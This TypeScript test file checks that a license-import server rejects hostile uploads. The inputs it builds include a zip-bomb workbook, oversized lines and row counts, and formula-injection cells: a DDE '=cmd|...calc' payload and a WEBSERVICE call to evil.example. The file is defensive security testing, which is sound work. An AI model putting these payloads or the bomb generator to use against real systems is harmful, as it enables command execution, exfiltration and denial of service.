import { readFileSync } from 'node:fs'
import { request } from 'node:http'
import { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { beforeAll, expect, test, vi } from 'vitest'
import { ZipFile } from 'yazl'
import { type Client, createClient, overHttp } from '../../client/index.ts'
import { limits } from '../../rules/installation/limits.ts'
import { messages, sentences } from '../../rules/messages.ts'
import { freshDatabase } from '../testing/databases/database.ts'
import { xlsxOf } from '../testing/files/xlsx.ts'
import { ADMIN, REGISTER } from '../testing/jobs/importing.ts'
import { aProgram, type Program } from '../testing/program.ts'
import { refused } from '../testing/refused.ts'
import { deep, report } from '../testing/suite.ts'
import { startTestApp } from '../testing/test-app.ts'

const MB = 1024 * 1024
/** The additional memory that the server may need for any of these files. */
const MOST_MB = 512

const line = report('Bad input')

let program: Program
let token: string
let imports: Client['imports']
beforeAll(async () => {
  const database = await freshDatabase()
  const testApp = await startTestApp({ database })
  const programs = await aProgram(database.url)
  program = await programs.start()
  token = testApp.of(ADMIN).token
  imports = createClient(overHttp({ base: program.base, token })).imports
  return async () => {
    await programs[Symbol.asyncDispose]()
    await testApp[Symbol.asyncDispose]()
  }
})

const peakMb = () => Number(/VmHWM:\s+(\d+) kB/.exec(readFileSync(`/proc/${program.pid}/status`, 'utf8'))?.[1]) / 1024

const upload = (file: string | Buffer, name = 'a.csv') =>
  imports.create({ body: { kind: 'licenses', documentFileName: name, document: Buffer.from(file).toString('base64') } })

/** Uploads a file and returns the result. Prints the peak of the server's memory, which is limited in the deep suite. */
const watched = async (what: string, expected: string, file: string | Buffer, name?: string) => {
  const before = peakMb()
  const refusal = await refused(upload(file, name))
  const more = Math.max(0, peakMb() - before)
  line(what, `${expected}, at most ${MOST_MB} MB more`, `${refusal.status}, ${Math.round(more)} MB more`)
  if (deep) expect(more).toBeLessThan(MOST_MB)
  return refusal
}

/** Begins an upload of so many bytes. The server refuses it by its length, so nothing else is sent. */
const statusOf = (bytes: number) =>
  new Promise<number | undefined>((resolve, reject) => {
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'content-length': bytes }
    const sending = request(`${program.base}/imports`, { method: 'POST', headers }, (response) => {
      resolve(response.statusCode)
      sending.destroy()
    })
    sending.on('error', reject)
    sending.write('{"kind":"licenses","document":"')
  })

/** A workbook whose sheet is small in the file and large when inflated. */
const bombOf = async (megabytes: number) => {
  const zip = new ZipFile()
  const zeros = async function* () {
    for (let n = 0; n < megabytes; n++) yield Buffer.alloc(MB)
  }
  zip.addReadStream(Readable.from(zeros()), 'xl/worksheets/sheet1.xml')
  zip.end()
  return buffer(zip.outputStream)
}

test('a file that is not UTF-8 is read in its encoding, and refused if UTF-8 is chosen', async () => {
  const file = Buffer.concat([Buffer.from('License No,Notes\nU-1,Caf'), Buffer.from([0xe9, 0x0a])])
  const one = await upload(file)
  expect(one).toMatchObject({ encoding: 'windows-1252', rows: [{ cells: ['U-1', 'Café'] }] })
  const body = { ...one.mapping, format: { encoding: 'utf-8' as const, headerRow: 1 } }
  expect(await refused(imports.map({ params: { id: one.id }, body }))).toMatchObject({ status: 400 })
})

test('a line that never ends, and a file that is larger than a file may be', { timeout: 120_000 }, async () => {
  const length = deep ? limits.importCsvBytes - MB : 8 * MB
  const long = await watched('a line without an end', '400', Buffer.concat([Buffer.from('A,B\n1,'), Buffer.alloc(length, 'x')]))
  expect(long).toMatchObject({ status: 400, errors: { document: [`Row 2: ${messages.importRowTooLong}`] } })
  const before = peakMb()
  expect(await statusOf(200 * MB)).toBe(413)
  line('a line of 200 MB', '413', `413, ${Math.round(Math.max(0, peakMb() - before))} MB more`)
  if (deep) expect(peakMb() - before).toBeLessThan(MOST_MB)
})

test('a workbook that unpacks to more than a workbook may', { timeout: 120_000 }, async () => {
  const bomb = await bombOf(limits.importXlsxUnpackedBytes / MB + 1)
  expect(bomb.length).toBeLessThan(MB)
  const refusal = await watched('a workbook of 400 MB in 0.4 MB', '400', bomb, 'a.xlsx')
  expect(refusal).toMatchObject({ status: 400, errors: { document: [messages.importXlsxTooMuch] } })
})

test('one row more than a file may have', { timeout: 120_000 }, async () => {
  const refusal = await watched('200,001 rows', '400', `A,B\n${'1,2\n'.repeat(limits.importFileRows + 1)}`)
  expect(refusal).toMatchObject({ status: 400, errors: { document: [sentences.tooManyRows(limits.importFileRows)] } })
})

test('a formula is text or its stored result, and the server runs none', async () => {
  const formula = '=cmd|"/c calc"!A1'
  expect((await upload(`License No,Notes\nF-1,"${formula.replaceAll('"', '""')}"\n`)).rows[0]?.cells[1]).toBe(formula)
  const cell = { formula: 'WEBSERVICE("http://evil.example")', result: 'kept' }
  const book = await xlsxOf({
    Register: [
      ['License No', 'Notes'],
      ['F-2', cell],
    ],
  })
  expect((await upload(book, 'a.xlsx')).rows[0]?.cells).toEqual(['F-2', 'kept'])
})

test('of two imports of one client at once, one runs and the other waits for its turn', { timeout: 120_000 }, async () => {
  const checked = async (series: string) => {
    const rows = Array.from({ length: 500 }, (_, n) => `${series}-${n},Tavern,Pier,1 Harbor St,Denver,CO,2026-01-01,2026-12-31`)
    const header = 'License #,License Type,Property,Address 1,City,State,Effective Date,Expiration Date'
    const { id, mapping } = await upload([header, ...rows].join('\n'))
    await imports.map({ params: { id }, body: { ...mapping, fields: [...mapping.fields, ...REGISTER] } })
    expect(await imports.check({ params: { id } })).toMatchObject({ created: 500, refused: 0 })
    return id
  }
  const ids = [await checked('ONE'), await checked('TWO')]
  const started = await Promise.allSettled(ids.map((id) => imports.run({ params: { id } })))
  const waiting = started.flatMap((one, n) => (one.status === 'rejected' ? [{ id: ids[n] ?? 0, why: one.reason }] : []))
  expect(waiting.map(({ why }) => [why.status, why.message])).toEqual([[409, messages.importRunning]])
  const isDone = async (id: number) => expect(await imports.get({ params: { id } })).toMatchObject({ status: 'Done', createdCount: 500 })
  const [first, second] = [ids.find((id) => id !== waiting[0]?.id) ?? 0, waiting[0]?.id ?? 0]
  await vi.waitFor(() => isDone(first), { timeout: 60_000, interval: 200 })
  await imports.run({ params: { id: second } })
  await vi.waitFor(() => isDone(second), { timeout: 60_000, interval: 200 })
})
